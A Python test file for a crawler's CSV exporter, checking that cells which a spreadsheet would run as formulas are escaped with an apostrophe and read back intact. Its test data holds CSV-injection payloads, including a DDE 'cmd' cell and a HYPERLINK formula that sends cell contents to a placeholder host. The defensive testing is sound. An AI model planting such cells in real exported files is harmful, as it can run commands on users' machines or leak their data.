"""Cells of CSV files that no spreadsheet runs, and that are read back unchanged."""

from __future__ import annotations

import csv
from io import BytesIO, StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crawler.core.cells import from_cell, to_cell
from crawler.exporters.feeds import CorpusCsvItemExporter


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "=cmd|' /C calc'!A0", "+SUM(A1)", "-2+3+cmd|x", "@SUM(1)", "\t=1", "\r=1",
        '=HYPERLINK("http://a.example/?"&A1)', "-dash", "+82-2-123 ext", "'=1", "''@a",
    ],
)  # fmt: skip
def test_what_would_run_is_marked(text: str) -> None:
    assert to_cell(text) == f"'{text}"
    assert from_cell(to_cell(text)) == text


@pytest.mark.parametrize(
    "text",
    [
        "", "-5", "+3.2", "-1,234.50", "-1e-5", "-.5", "-12 %", "-", "--", "=", "a=1", "'quoted'",
        "2026-11-29", "'tis", "가격 +3", "12",
    ],
)  # fmt: skip
def test_numbers_and_all_else_stay(text: str) -> None:
    assert to_cell(text) == text
    assert from_cell(text) == text


@given(st.text(alphabet="'=+-@\t\ra1. ", max_size=8) | st.text(max_size=20))
def test_every_text_is_read_back(text: str) -> None:
    cell = to_cell(text)
    assert from_cell(cell) == text
    assert cell in {text, f"'{text}"}


@pytest.mark.parametrize(("formulas", "title"), [(False, "'=1+1"), (True, "=1+1")])
def test_a_feed_marks_them_unless_it_is_told_not_to(*, formulas: bool, title: str) -> None:
    file = BytesIO()
    exporter = CorpusCsvItemExporter(file, formulas=formulas)
    exporter.start_exporting()
    exporter.export_item({"title": "=1+1", "change": -5, "list": ["=1"]})
    exporter.finish_exporting()
    text = file.getvalue().decode()
    assert list(csv.reader(StringIO(text)))[1] == [title, "-5", '["=1"]']


@pytest.mark.parametrize("text", ["\uff1dcmd", "\uff0b1+cmd", "\uff20SUM(1)", "\n=1", "\n=1+cmd"])
def test_wide_signs_and_line_feeds_are_marked(text: str) -> None:
    assert to_cell(text) == f"'{text}"
    assert from_cell(to_cell(text)) == text
